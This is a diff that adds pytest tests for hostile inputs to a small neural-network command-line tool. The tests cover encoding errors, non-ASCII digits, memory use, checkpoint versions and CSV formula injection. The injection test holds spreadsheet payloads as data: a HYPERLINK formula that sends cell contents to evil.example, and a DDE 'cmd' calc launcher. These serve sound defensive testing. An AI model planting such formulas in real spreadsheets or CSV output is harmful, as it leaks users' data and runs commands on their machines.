@@ -485,3 +485,176 @@ def test_train_reads_standard_input(tmp_path: Path) -> None:
     result = command("train", "--data", "-", "--epochs", "2", "--quiet", cwd=tmp_path, stdin=rows)
     assert result.returncode == 0, result.stderr
     assert "on 3 samples of <stdin> (2 classes, 1 held out for testing)" in result.stdout
+
+
+# ---- issue 18, hostile inputs round two: findings 1, 6, 7, 8 ------------------------------
+
+# Bytes that are not UTF-8 (0xe9 is "é" in Latin-1), as a str that a text-mode subprocess
+# writes back as those bytes when its errors handler is surrogateescape.
+NOT_UTF8 = "1,2,caf\udce9\n3,4,b\n1.5,2.5,caf\udce9\n3.5,4.5,b\n"
+RAW_BYTES = {"encoding": "utf-8", "errors": "surrogateescape"}
+
+
+def identity_model(path: Path, classes: list[str], **document: object) -> None:
+    """A checkpoint of MLP(k, [k]) with identity weights: the row e_i predicts class i."""
+    import nn
+
+    k = len(classes)
+    model = nn.MLP(k, [k], seed=0)
+    state = {name: 0.0 for name in model.state_dict()}
+    for i in range(k):
+        state[f"layers.0.neurons.{i}.w.{i}"] = 1.0
+    text = nn.checkpoint.encode("MLP", model.config(), state, ["class"] * k)
+    path.write_text(json.dumps({**json.loads(text), "classes": classes, **document}))
+
+
+def test_bytes_that_are_not_utf8_are_refused_on_standard_input_as_in_a_file(
+    tmp_path: Path,
+) -> None:
+    # Finding 1: standard input was decoded with surrogateescape, so `caf\xe9` became the
+    # class "caf\udce9", saved, and predict died with a UnicodeEncodeError traceback.
+    (tmp_path / "latin1.csv").write_bytes(NOT_UTF8.encode("utf-8", "surrogateescape"))
+    for data, stdin in (("latin1.csv", None), ("-", NOT_UTF8)):
+        result = command(
+            "train", "--data", data, "--epochs", "1", "--save", "m.json",
+            cwd=tmp_path, stdin=stdin, **RAW_BYTES,
+        )  # fmt: skip
+        one_line_error(result, 2, "not a text CSV file (it is not UTF-8)")
+        assert result.stdout == ""
+        assert not (tmp_path / "m.json").exists()
+    # The same name in UTF-8 is a class name like any other.
+    result = command(
+        "train", "--data", "-", "--epochs", "1", "--quiet", "--test-fraction", "0",
+        "--save", "m.json", cwd=tmp_path, stdin=NOT_UTF8.replace("\udce9", "\u00e9"),
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    assert json.loads((tmp_path / "m.json").read_text("utf-8"))["classes"] == ["b", "café"]
+
+
+def test_a_checkpoint_class_name_that_is_not_text_is_refused(tmp_path: Path) -> None:
+    # Finding 1: a lone-surrogate escape in "classes" crashed predict on stdout (where
+    # stdout's errors handler is strict, as PYTHONIOENCODING=utf-8 makes it) and with
+    # --output.
+    identity_model(tmp_path / "m.json", ["b", "caf\udce9"])
+    strict_stdout = {**os.environ, "PYTHONIOENCODING": "utf-8"}
+    for output in ([], ["--output", "p.csv"]):
+        result = command(
+            "predict", "m.json", "-", *output, cwd=tmp_path, stdin="0,1\n", env=strict_stdout
+        )
+        one_line_error(result, 2, "m.json: class name 1 of \"classes\", 'caf\\udce9', is not text")
+        assert result.stdout == ""
+        assert not (tmp_path / "p.csv").exists()
+
+
+def test_file_names_that_are_not_utf8_are_printed_escaped(tmp_path: Path) -> None:
+    # Finding 1's sibling: train printed the --data and --save names on stdout as they
+    # came, and a byte that was not UTF-8 in them was a UnicodeEncodeError traceback.
+    data, save = os.fsdecode(b"caf\xe9.csv"), os.fsdecode(b"m\xe9.json")
+    write_csv(tmp_path / data, "0,0,0\n1,1,1\n0,1,0\n1,0,1\n")
+    result = command(
+        "train", "--data", data, "--epochs", "1", "--quiet", "--test-fraction", "0",
+        "--save", save, cwd=tmp_path, env={**os.environ, "PYTHONIOENCODING": "utf-8"},
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    assert "on 4 samples of caf\\udce9.csv (2 classes)" in result.stdout
+    assert result.stdout.endswith("wrote m\\udce9.json\n")
+    assert (tmp_path / save).is_file()
+
+
+@pytest.mark.slow
+def test_read_csv_holds_little_more_than_the_table_it_returns(tmp_path: Path) -> None:
+    # Finding 6: read_csv kept every cell as a string, then the floats: about 40 times the
+    # file at its peak (13 MB took 509 MB). Rows are now turned into floats as they are
+    # read, so the peak is the table itself (about 13 times the file for 2 columns).
+    path = tmp_path / "big.csv"
+    path.write_text("".join(f"{i % 997 / 7:.4f},{i % 89 * 0.5:.3f}\n" for i in range(150_000)))
+    size = path.stat().st_size  # 2 MB
+    script = (
+        "import sys, tracemalloc\n"
+        "from nn.data import read_csv\n"
+        "tracemalloc.start()\n"
+        "table = read_csv(sys.argv[1])\n"
+        "held, peak = tracemalloc.get_traced_memory()\n"
+        "print(len(table.rows), held, peak)\n"
+    )
+    result = subprocess.run(
+        [sys.executable, "-c", script, str(path)],
+        capture_output=True, text=True, cwd=tmp_path, timeout=300, check=False,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    rows, held, peak = map(int, result.stdout.split())
+    assert rows == 150_000
+    assert held < 16 * size  # about 165 bytes a row of two numbers and its line number
+    assert peak < held * 1.2 + 2**20, (peak / size, held / size)
+
+
+@pytest.mark.parametrize(
+    ("row", "cell"),
+    [
+        ("1_000,2,0", "'1_000'"),  # float() reads 1000.0
+        ("\u0661,2,0", "'\u0661'"),  # ARABIC-INDIC DIGIT ONE: float() reads 1.0
+        ("\uff11.5,2,0", "'\uff11.5'"),  # FULLWIDTH DIGIT ONE
+        ("1,2\u0660,0", "'2\u0660'"),
+    ],
+)
+def test_numbers_are_plain_ascii(tmp_path: Path, row: str, cell: str) -> None:
+    # Finding 7: cells went through float(), which reads 1_000 and non-ASCII digits.
+    write_csv(tmp_path / "d.csv", f"x,y,label\n0,0,0\n{row}\n0,1,1\n1,1,1\n")
+    result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
+    column = 1 if row.index(cell.strip("'")) == 0 else 2
+    one_line_error(
+        result, 2, f"d.csv, line 3, column {column}: {cell} is not a number (expected plain ASCII"
+    )
+
+
+def test_class_numbers_are_plain_ascii_and_predict_reads_plain_numbers(tmp_path: Path) -> None:
+    # Finding 7: the label "\u0661" (an Arabic-Indic 1) was class 1; "1_0" class 10.
+    for label in ("\u0661", "1_0"):
+        write_csv(tmp_path / "d.csv", f"0,0,0\n1,1,{label}\n0,1,0\n1,0,{label}\n")
+        result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
+        one_line_error(
+            result, 2, "line 2: the label must be a class number 0, 1, 2, ... (ASCII digits)"
+        )
+    identity_model(tmp_path / "m.json", ["a", "b"])
+    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,0\n1_0,0\n")
+    one_line_error(result, 2, "<stdin>, line 2, column 1: '1_0' is not a number")
+
+
+def test_class_names_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    # Finding 7: a class named =HYPERLINK(...) was written as is into predict's CSV, where
+    # a spreadsheet runs it. OWASP: a cell starting with = + - @ tab or CR gets a quote.
+    import csv
+    import io
+
+    names = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tindented",
+        "\rreturn",
+        "plain = name",
+    ]
+    identity_model(tmp_path / "m.json", names)
+    rows = "".join(
+        ",".join("1" if j == i else "0" for j in range(len(names))) + "\n"
+        for i in range(len(names))
+    )
+    printed = command("predict", "m.json", "-", cwd=tmp_path, stdin=rows)
+    assert printed.returncode == 0, printed.stderr
+    written = command("predict", "m.json", "-", "-o", "p.csv", cwd=tmp_path, stdin=rows)
+    assert (written.returncode, written.stdout) == (0, "")
+    assert (tmp_path / "p.csv").read_text("utf-8") == printed.stdout
+    text = (tmp_path / "p.csv").read_bytes().decode("utf-8")  # "\r" as written
+    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+    assert cells == ["'" + name for name in names[:-1]] + ["plain = name"]
+
+
+@pytest.mark.parametrize("version", [True, 1.0, "1", None])
+def test_a_checkpoint_version_must_be_the_integer_1(tmp_path: Path, version: object) -> None:
+    # Finding 8: "version": true or 1.0 was taken as version 1.
+    identity_model(tmp_path / "m.json", ["a", "b"], version=version)
+    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,0\n")
+    shown = json.dumps(version)
+    one_line_error(result, 2, f"m.json: checkpoint version {shown} is not supported (expected 1)")
+    assert result.stdout == ""
